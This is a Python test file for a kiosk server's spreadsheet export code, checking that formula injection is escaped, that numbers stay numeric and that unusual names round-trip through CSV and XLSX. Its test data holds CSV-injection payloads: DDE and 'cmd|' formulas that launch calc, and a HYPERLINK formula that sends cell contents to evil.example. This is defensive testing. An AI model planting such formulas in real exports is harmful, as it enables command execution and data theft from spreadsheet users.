"""Spreadsheet exports: formula injection neutralised, numbers kept numbers, any name kept."""

from __future__ import annotations

import csv
import io
from decimal import Decimal as D
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kiosk_server.importer import read_rows
from kiosk_server.spreadsheet import Cell, Sheet, csv_bytes, neutralise, xlsx_bytes

INJECTIONS = [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),  # line ends become LF, as XLSX would make them anyway
    ("a\r\nb", "a\nb"),
    ("\rtext", "'\ntext"),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    (
        '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
        '\'=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    ),
    ('=DDE("cmd";"/C calc";"!A0")', '\'=DDE("cmd";"/C calc";"!A0")'),
    ("  =1+1", "'  =1+1"),  # leading spaces do not hide a formula
    ("\n@x", "'\n@x"),
    ("-", "'-"),
    ("王伟", "王伟"),
    ("a=b", "a=b"),
    ("1-2", "1-2"),
    ("'already quoted", "'already quoted"),
    ("85.5", "85.5"),  # text stays text, unprefixed
    ("", ""),
    ("a\x00b\x1fc", "a\ufffdb\ufffdc"),  # XML cannot hold C0 controls
]


@pytest.mark.parametrize(("text", "safe"), INJECTIONS)
def test_neutralise(text: str, safe: str) -> None:
    assert neutralise(text) == safe


def corpus_sheet() -> Sheet:
    rows: list[list[Cell]] = [[text, D("-2.50"), -3, None] for text, _ in INJECTIONS]
    return Sheet("注入=测试", ["text", "deviation", "count", "empty"], rows)


def test_csv_neutralises_text_and_keeps_numbers() -> None:
    data = csv_bytes(corpus_sheet())
    assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 BOM: Excel shows Chinese
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["text", "deviation", "count", "empty"]
    assert [row[0] for row in read[1:]] == [safe for _, safe in INJECTIONS]
    assert {(row[1], row[2], row[3]) for row in read[1:]} == {("-2.50", "-3", "")}


def test_xlsx_neutralises_text_and_keeps_numbers_numeric() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes(corpus_sheet())))
    ws = book.worksheets[0]
    assert ws.title == "注入=测试"
    assert ws.freeze_panes == "A2"
    for (_, safe), row in zip(INJECTIONS, ws.iter_rows(min_row=2), strict=True):
        text, deviation, count, empty = row
        if safe:
            assert (text.value, text.data_type) == (safe, "s")
        else:
            assert text.value is None
        assert (deviation.value, deviation.data_type, deviation.number_format) == (
            -2.5,
            "n",
            "0.00",
        )
        assert (count.value, count.data_type) == (-3, "n")
        assert empty.value is None
    assert not any(c.data_type == "f" for row in ws.iter_rows() for c in row)


@pytest.mark.parametrize("bad", [1.5, True, object(), D("NaN")])
def test_floats_and_other_types_are_refused(bad: object) -> None:
    sheet = Sheet("x", ["a"], [[bad]])  # type: ignore[list-item]
    with pytest.raises(TypeError):
        csv_bytes(sheet)
    with pytest.raises(TypeError):
        xlsx_bytes(sheet)


NAMES = [
    "王伟",
    "欧阳镕",  # 镕: in GBK, not in GB2312
    "刘䶮",  # 䶮: CJK Extension A
    "𠮷田",  # 𠮷: CJK Extension B, outside the BMP
    "张𪚥",  # 𪚥: Extension B
    "笑脸😀",  # emoji
    "阿依古丽·买买提",
    "José Núñez",
    'O\'Brien, "Jr."',
    "第一行\n第二行",
]


def candidates_sheet() -> Sheet:
    rows: list[list[Cell]] = [
        [f"R{n:03}", name, "党政办", "P1", ""] for n, name in enumerate(NAMES, start=1)
    ]
    return Sheet("candidates", ["reg_no", "name", "unit", "preference1", "preference2"], rows)


def test_names_round_trip_through_csv_and_xlsx(tmp_path: Path) -> None:
    sheet = candidates_sheet()
    text = csv_bytes(sheet).decode("utf-8-sig")
    assert [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:] == NAMES
    book = load_workbook(io.BytesIO(xlsx_bytes(sheet)))
    assert [row[1] for row in book.worksheets[0].iter_rows(min_row=2, values_only=True)] == NAMES
    # and the kiosk's own importer reads both back
    (tmp_path / "c.csv").write_bytes(csv_bytes(sheet))
    (tmp_path / "c.xlsx").write_bytes(xlsx_bytes(sheet))
    for name in ("c.csv", "c.xlsx"):
        rows = read_rows(tmp_path / name, "candidates")
        assert [r.values["name"] for r in rows] == NAMES


def test_csv_is_byte_for_byte_deterministic() -> None:
    assert csv_bytes(candidates_sheet()) == csv_bytes(candidates_sheet())
